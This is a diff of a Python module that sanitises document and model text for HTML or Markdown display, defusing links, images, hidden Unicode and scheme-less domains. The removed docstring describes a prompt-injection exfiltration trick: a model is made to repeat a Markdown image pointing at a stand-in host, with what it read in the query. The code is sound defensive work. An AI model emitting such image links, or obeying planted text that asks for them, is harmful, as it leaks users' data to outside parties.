@@ -1,38 +1,135 @@
-"""Text of documents and models, made safe to show: in HTML, or as Markdown that fetches nothing.
-
-Whoever writes a document can have a model repeat `![](https://elsewhere/?what-it-read)`: a renderer then fetches that
-address and the text has left (CVE-2025-32711 and many like it). Nothing that a document or a model wrote becomes an
-image, a link or HTML here, then; links are made by `own_link`, by us, to routes of ours.
-"""
+"""Make text of documents and models safe to show, in HTML or as Markdown without links."""
 
 from html import escape
 
-from elt_llm_api.serve.safe_markdown import SafeMarkdown
-from elt_llm_api.serve.visible import made_visible
+from elt_llm_api.display.text import CONTROL_CODES, INVISIBLE_CODES, SURROGATE_CODES, TAG_CODES
+
+_REPLACEMENTS = {code: f"⟨U+{code:04X}⟩" for code in (*CONTROL_CODES, *INVISIBLE_CODES, *TAG_CODES, *SURROGATE_CODES)}
+
+
+def show_invisible_characters(text: str) -> str:
+    """Replace invisible characters by their code, as in ⟨U+202E⟩; keep line ends, tabs and joiners (U+200C, U+200D)."""
+    return text.translate(_REPLACEMENTS)
+
+
+JOINER = "\u2060"
+_LINK_PAIRS = frozenset({"](", "][", "]:", "//"})  # link, reference, definition; an address without scheme
+_SCHEMES = frozenset(
+    {"http", "https", "ftp", "ws", "wss", "file", "mailto", "xmpp", "tel", "javascript", "vbscript", "livescript"}
+)
+_MAX_SCHEME = max(map(len, _SCHEMES)) + 1
+# Top-level domains that renderers link even without a scheme: those of linkify-it and a few more. Those of two letters
+# all count.
+# fmt: off
+_TOP_LEVEL_DOMAINS = frozenset({
+    "app", "asia", "aero", "biz", "click", "cloud", "club", "com", "coop", "dev", "edu", "gov", "info", "int",
+    "link", "mil", "mobi", "museum", "name", "net", "online", "onion", "org", "page", "pro", "shop", "site",
+    "tech", "top", "web", "xxx", "xyz", "zip",
+})
+# fmt: on
+_MAX_LABEL = 63  # RFC 1035
+_FENCE = frozenset("`~")
+
+
+class SafeMarkdown:
+    """Escapes Markdown piece by piece; how the text is cut does not matter. Holds back 64 characters at most."""
+
+    def __init__(self) -> None:
+        self._last = ""  # the previous character
+        self._word = ""  # the previous letters, if they could be a scheme
+        self._held = ""  # a dot that may be part of a host name, and what follows it
+        self._before_held = ""  # the word in front of that dot
+        self._fence = 0  # previous fence characters; 3 or more start code, whose language follows
+
+    def feed(self, piece: str) -> str:
+        """Return the part of the escaped text that is certain so far."""
+        return "".join(map(self._next, show_invisible_characters(piece)))
+
+    def end(self) -> str:
+        """Return the text that was held back."""
+        return self._release("")
+
+    def _next(self, char: str) -> str:
+        if not self._held:
+            return self._escape(char)
+        if (char.isalnum() or char == "-") and len(self._held) <= _MAX_LABEL:
+            self._held += char
+            return ""
+        return self._release(char) + self._escape(char)
+
+    def _release(self, following: str) -> str:
+        held, self._held = self._held, ""
+        if not held:
+            return ""
+        label = held[1:]
+        is_host = (
+            _is_top_level_domain(label)
+            or self._before_held == "www"
+            or (label[:1].isalpha() and following in {*"/?#:"})
+        )
+        self._last, self._word = held[-1], label[-_MAX_SCHEME:].lower()
+        return held[0] + JOINER + label if is_host and label else held
+
+    def _escape(self, char: str) -> str:
+        if char == "." and self._last.isalnum():
+            self._held, self._before_held, self._fence = char, self._word, 0
+            return ""
+        escaped = JOINER + char if self._is_link_start(char) else char
+        self._fence = self._count_fence(char)
+        self._word = (self._word + char.lower())[-_MAX_SCHEME:] if char.isalnum() else ""
+        self._last = char
+        return escaped
+
+    def _is_link_start(self, char: str) -> bool:
+        """Whether this character completes the start of a link, an image or HTML."""
+        if self._last + char in _LINK_PAIRS:
+            return True
+        if self._last == "<":
+            return char.isalpha() or char in "/!?"
+        if char == "@":
+            return bool(self._last) and not self._last.isspace()
+        if char == ":":
+            return self._word in _SCHEMES
+        return self._fence >= 3 and char in "mM&\\"  # mermaid: code that is rendered, with links in it
+
+    def _count_fence(self, char: str) -> int:
+        if char in _FENCE:
+            return self._fence + 1 if char == self._last else 1
+        return self._fence if self._fence >= 3 and char in " \t" else 0
+
+
+def _is_top_level_domain(label: str) -> bool:
+    """Whether a label is a top-level domain, such as com, io, xn--p1ai, рф."""
+    if not label.isascii():
+        return True
+    return (
+        label.lower() in _TOP_LEVEL_DOMAINS or (len(label) == 2 and label.isalpha()) or label.lower().startswith("xn--")
+    )
+
 
 _TEMPLATE = str.maketrans({"$": "&#36;", "{": "&#123;", "}": "&#125;", "`": "&#96;", "\\": "&#92;"})
 
 
-def as_text(text: str) -> str:
-    """The text for HTML, between tags or in quoted attributes; also for templates that fill in `${...}` or `{{...}}`.
+def escape_html(text: str) -> str:
+    """Escape text for HTML, between tags or in quoted attributes; also for templates with `${...}` or `{{...}}`.
 
-    Control characters and those that turn the direction of writing are shown by their number.
+    Control characters and those that change the direction of writing are replaced by their code.
     """
-    return escape(made_visible(text), quote=True).translate(_TEMPLATE)
+    return escape(show_invisible_characters(text), quote=True).translate(_TEMPLATE)
 
 
-def as_markdown(text: str) -> str:
-    """The text as Markdown: lists, tables, code and emphasis stay; addresses are to be read, not followed."""
+def escape_markdown(text: str) -> str:
+    """Escape text for Markdown: lists, tables, code and emphasis stay; addresses are shown and not linked."""
     safe = SafeMarkdown()
     return safe.feed(text) + safe.end()
 
 
-def own_link(label: str, route: str) -> str:
-    """A Markdown link to a route of this server, such as `/v1/documents/3`. Raises ValueError for any other address."""
+def route_link(label: str, route: str) -> str:
+    """Return a Markdown link to a path on this server, such as `/v1/documents/3`. Raises ValueError for another."""
     is_own = route.startswith("/") and not route.startswith("//") and route.isascii()
     if not is_own or any(sign in route for sign in "\\()<>[]\"'` ") or not route.isprintable():
-        raise ValueError(f"'{route}' is no route of this server.")
-    named = as_markdown(" ".join(label.split()))
+        raise ValueError(f"'{route}' is not a path on this server.")
+    text = escape_markdown(" ".join(label.split()))
     for sign in "\\[]`":
-        named = named.replace(sign, f"\\{sign}")
-    return f"[{named}]({route})"
+        text = text.replace(sign, f"\\{sign}")
+    return f"[{text}]({route})"
